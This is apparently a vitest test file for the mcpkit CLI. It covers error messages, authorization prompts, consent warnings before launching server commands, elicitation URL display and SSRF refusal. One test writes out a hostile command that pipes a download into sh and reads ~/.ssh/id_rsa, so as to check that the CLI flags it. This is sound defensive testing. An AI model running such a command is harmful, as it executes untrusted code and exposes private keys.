/**
 * What the CLI tells a user who got something wrong, run in-process through
 * `runCli` with in-memory streams: the closest verb, an unknown
 * `--protocol-version`, a missing or misspelled tool argument, a server that
 * needs authorization; what it shows before starting a command (SEP-1024)
 * and before accepting a URL-mode elicitation (SEP-1036); and what it prints
 * when things go right: every revision `discover` finds, a progress bar gone
 * before the result.
 */
import { existsSync, mkdtempSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDemoServer } from '../../examples/demo-server.js';
import { type CliIo, runCli } from '../../src/cli/run.js';
import type { RunningHttpServer } from '../../src/entries/node.js';
import { McpServer } from '../../src/entries/server.js';
import { SUPPORTED_PROTOCOL_VERSIONS } from '../../src/protocol/versions.js';
import { serve } from './cli-harness.js';
import { createFixtureServer } from './fixture-server.js';

/** One write, in the order it happened, with the stream it went to. */
interface Write {
  to: 'stdout' | 'stderr';
  text: string;
}

function sink(to: Write['to'], log: Write[]): Writable {
  return new Writable({
    write(chunk: Buffer | string, _encoding, done) {
      log.push({ to, text: chunk.toString() });
      done();
    },
  });
}

/** Runs the CLI in this process; stderr may pose as a terminal (for the progress bar). */
async function cli(argv: string[], options: { tty?: boolean } = {}) {
  const log: Write[] = [];
  const stderr = Object.assign(sink('stderr', log), { isTTY: options.tty === true, columns: 120 });
  const io: CliIo = { stdin: Readable.from([]), stdout: sink('stdout', log), stderr, interactive: false };
  const code = await runCli(argv, io);
  const of = (to: Write['to']) =>
    log
      .filter((write) => write.to === to)
      .map((write) => write.text)
      .join('');
  return { code, log, stdout: of('stdout'), stderr: of('stderr') };
}

const SLOW = 60_000;
let demo: RunningHttpServer;
let fixture: RunningHttpServer;
let refusing: Server;
let url: string;
let refusingUrl: string;

beforeAll(async () => {
  demo = await serve(createDemoServer());
  fixture = await serve(createFixtureServer());
  url = demo.url.href;
  // Every request is refused with a bare 401: no metadata to sign in with.
  refusing = createServer((_request, response) => {
    response.writeHead(401, { 'content-type': 'text/plain' }).end('Unauthorized');
  });
  await new Promise<void>((resolve) => refusing.listen(0, '127.0.0.1', resolve));
  const address = refusing.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  refusingUrl = `http://127.0.0.1:${address.port}/mcp`;
});

afterAll(async () => {
  await demo?.close();
  await fixture?.close();
  await new Promise((resolve) => refusing?.close(resolve));
});

describe('usage mistakes', () => {
  it('an unknown verb suggests the closest one', async () => {
    const run = await cli(['tool', url]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('Unknown verb "tool": did you mean tools?');
    const far = await cli(['zzzzzz', url]);
    expect(far.code).toBe(2);
    expect(far.stderr).not.toContain('did you mean');
    expect(far.stderr).toContain('use one of discover, tools');
  });

  it('an unknown --protocol-version is refused, naming the revisions mcpkit speaks', async () => {
    const run = await cli(['discover', '--protocol-version', '2099-01-01', url]);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain('--protocol-version 2099-01-01: mcpkit does not speak this revision');
    for (const version of SUPPORTED_PROTOCOL_VERSIONS) expect(run.stderr).toContain(version);
  });

  it('a missing required argument is named with its type, before the call', { timeout: SLOW }, async () => {
    const run = await cli(['call', 'echo', url]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('echo needs the argument text (a string); give --arg text=<text>.');
    expect(run.stderr).not.toContain('received undefined');
    const both = await cli(['call', 'add', '--arg', 'a=1', url]);
    expect(both.stderr).toContain('add needs the argument b (a number); give --arg b=3.');
  });

  it('a misspelled --arg is flagged with the closest known argument', { timeout: SLOW }, async () => {
    const run = await cli(['call', 'echo', '--arg', 'txt=hi', url]);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(
      'echo has no argument "txt"; did you mean text? Its arguments: text (a string).',
    );
    const unrelated = await cli(['call', 'add', '--arg', 'a=1', '--arg', 'b=2', '--arg', 'zebra=3', url]);
    expect(unrelated.code).toBe(2);
    expect(unrelated.stderr).toContain(
      'add has no argument "zebra". Its arguments: a (a number), b (a number).',
    );
  });
});

describe('authorization', () => {
  it('a 401 says the server needs authorization and names the flags that give it', {
    timeout: SLOW,
  }, async () => {
    const bare = await cli(['tools', '--no-auth', refusingUrl]);
    expect(bare.code).toBe(3);
    expect(bare.stderr).toContain('The server needs authorization: give a token with --token <token>');
    expect(bare.stderr).toContain('--client-id');
    // Signing in fails too (the server offers nothing to sign in with): said as such, not as unreachable.
    const signIn = await cli(['tools', '--no-browser', refusingUrl]);
    expect(signIn.code).toBe(3);
    expect(signIn.stderr).toContain(`Could not sign in to ${refusingUrl}`);
    expect(signIn.stderr).toContain('The server needs authorization');
    expect(signIn.stderr).not.toContain('Check that the server is running');
  });
});

describe('authorization refused mid-run', () => {
  it('a 401 after connecting says the server needs authorization, not that the connection was lost', {
    timeout: SLOW,
  }, async () => {
    // The demo server behind a gate that lets server/discover through and refuses tools/list,
    // as a server does when a token expires between two requests.
    const server = createDemoServer();
    const gate = createServer(async (request, response) => {
      if (request.headers['mcp-method'] === 'tools/list') {
        response.writeHead(401, { 'content-type': 'text/plain' }).end('token expired');
        return;
      }
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      const headers = new Headers();
      for (const [name, value] of Object.entries(request.headers)) {
        if (typeof value === 'string') headers.set(name, value);
      }
      const answer = await server.fetch(
        new Request(`http://${request.headers.host}${request.url}`, {
          method: request.method,
          headers,
          body: chunks.length > 0 ? Buffer.concat(chunks) : undefined,
        }),
      );
      response.writeHead(answer.status, Object.fromEntries(answer.headers));
      response.end(Buffer.from(await answer.arrayBuffer()));
    });
    await new Promise<void>((resolve) => gate.listen(0, '127.0.0.1', resolve));
    try {
      const address = gate.address();
      if (address === null || typeof address === 'string') throw new Error('no port');
      const run = await cli(['tools', '--token', 'old-token', `http://127.0.0.1:${address.port}/mcp`]);
      expect(run.code).not.toBe(0);
      expect(run.stderr).toContain('The server answered HTTP 401 Unauthorized: token expired.');
      expect(run.stderr).toContain('The server needs authorization: give a token with --token <token>');
      expect(run.stderr).not.toContain('Lost the connection');
    } finally {
      await new Promise((resolve) => gate.close(resolve));
    }
  });
});

describe('output', () => {
  it('discover lists every revision the server speaks, both eras', { timeout: SLOW }, async () => {
    const run = await cli(['discover', url]);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(
      /^Protocol\s+2026-07-28 \(modern\); supports 2026-07-28, 2025-11-25, 2025-06-18, 2025-03-26, 2024-11-05$/m,
    );
    const json = await cli(['discover', '--json', url]);
    expect(JSON.parse(json.stdout).spokenVersions).toEqual([...SUPPORTED_PROTOCOL_VERSIONS]);
  });

  it('clears the progress bar before the result is printed', { timeout: SLOW }, async () => {
    const run = await cli(['call', 'slow', '--arg', 'steps=3', fixture.url.href], { tty: true });
    expect(run.code).toBe(0);
    expect(run.stdout).toBe('done in 3 steps\n');
    const result = run.log.findIndex((write) => write.to === 'stdout');
    const before = run.log.slice(0, result);
    expect(before.some((write) => write.text.includes('100% step 3'))).toBe(true);
    // The last thing on the terminal before the result is the bar being erased.
    expect(before.at(-1)).toEqual({ to: 'stderr', text: '\r\x1b[2K' });
    expect(run.log.slice(result).some((write) => write.text.includes('%'))).toBe(false);
  });
});

describe('starting a command (SEP-1024)', () => {
  it('shows the warning, the whole command and the environment it sets, values included', {
    timeout: SLOW,
  }, async () => {
    const marker = join(mkdtempSync(join(tmpdir(), 'mcpkit-cli-consent-')), 'started');
    const script = `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "x")`;
    const run = await cli([
      'tools',
      '--env',
      'API_TOKEN=s3cret value',
      '--env',
      'REGION=eu',
      '--',
      process.execPath,
      '-e',
      script,
      '--flag',
    ]);
    // No terminal and no --yes: refused, and nothing was started.
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`mcpkit: server command: ${process.execPath} -e '${script}' --flag\n`);
    expect(run.stderr).toContain("mcpkit: environment it sets: API_TOKEN='s3cret value' REGION=eu\n");
    expect(run.stderr).toMatch(/mcpkit: it also inherits from yours: [A-Z_, ]*PATH/);
    expect(run.stderr).toMatch(/WARNING: this starts a program on this computer, running as you/);
    expect(run.stderr).toContain('pass --yes to start it');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(existsSync(marker)).toBe(false);
  });

  it('points out what makes a command riskier, and shows all of it with --yes too', {
    timeout: SLOW,
  }, async () => {
    const risky = await cli([
      'tools',
      '--',
      'sh',
      '-c',
      'curl -s https://example.com/x | sh; cat ~/.ssh/id_rsa',
    ]);
    expect(risky.code).toBe(2);
    expect(risky.stderr).toContain('caution: it pipes a download into a shell');
    expect(risky.stderr).toContain('caution: it names a credentials path');
    expect(risky.stderr).toContain('caution: it runs a shell command line');
    const given = await cli([
      'tools',
      '--yes',
      '--env',
      'MODE=test',
      '--',
      process.execPath,
      '-e',
      'process.exit(4)',
    ]);
    expect(given.code).toBe(3);
    expect(given.stderr).toContain('mcpkit: environment it sets: MODE=test');
    expect(given.stderr).toContain('WARNING: this starts a program');
  });
});

describe('URL-mode elicitation (SEP-1036)', () => {
  it('--elicit-json shows the URL and its host before accepting', { timeout: SLOW }, async () => {
    const server = new McpServer({ name: 'pages', version: '1.0.0' }, { warn: () => {} });
    server.registerTool('link', {}, async (ctx) => {
      const answer = await ctx.elicit({
        mode: 'url',
        message: 'Link your account',
        url: 'https://accounts.example.com/link?e=42',
      });
      return { content: [{ type: 'text', text: `answer: ${answer.action}` }] };
    });
    const running = await serve(server);
    try {
      for (const version of ['2026-07-28', '2025-11-25']) {
        const run = await cli([
          'call',
          'link',
          '--protocol-version',
          version,
          '--elicit-json',
          '{}',
          running.url.href,
        ]);
        expect(run.code).toBe(0);
        expect(run.stdout).toBe('answer: accept\n');
        expect(run.stderr).toContain(
          'the server asks you to open https://accounts.example.com/link?e=42 (on accounts.example.com): "Link your account"',
        );
        const declined = await cli([
          'call',
          'link',
          '--protocol-version',
          version,
          '--elicit',
          'decline',
          running.url.href,
        ]);
        expect(declined.stdout).toBe('answer: decline\n');
        expect(declined.stderr).toContain('https://accounts.example.com/link?e=42');
      }
    } finally {
      await running.close();
    }
  });
});

describe('a server that sends the client to an internal address', () => {
  it('is refused with the flag that allows it; a malformed --ssrf-allow is a usage error', {
    timeout: SLOW,
  }, async () => {
    // A loopback server whose metadata names an authorization server on a private network.
    const server = createServer((request, response) => {
      const origin = `http://${request.headers.host}`;
      if (request.url?.startsWith('/.well-known/oauth-protected-resource')) {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(
          JSON.stringify({ resource: `${origin}/mcp`, authorization_servers: ['https://10.0.0.7'] }),
        );
        return;
      }
      response.writeHead(401, { 'www-authenticate': 'Bearer' }).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const address = server.address();
      if (address === null || typeof address === 'string') throw new Error('no port');
      const target = `http://127.0.0.1:${address.port}/mcp`;
      const refused = await cli(['tools', target]);
      expect(refused.code).toBe(3);
      expect(refused.stderr).toContain('10.0.0.7');
      expect(refused.stderr).toContain('pass --ssrf-allow 10.0.0.7');

      const malformed = await cli(['tools', '--ssrf-allow', '10.0.0.0/40', target]);
      expect(malformed.code).toBe(2);
      expect(malformed.stderr).toContain('--ssrf-allow 10.0.0.0/40');
      const forCommand = await cli(['tools', '--ssrf-allow', '10.0.0.7', '--', 'node', 'server.js']);
      expect(forCommand.code).toBe(2);
      expect(forCommand.stderr).toContain('--ssrf-allow only applies to a URL');
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
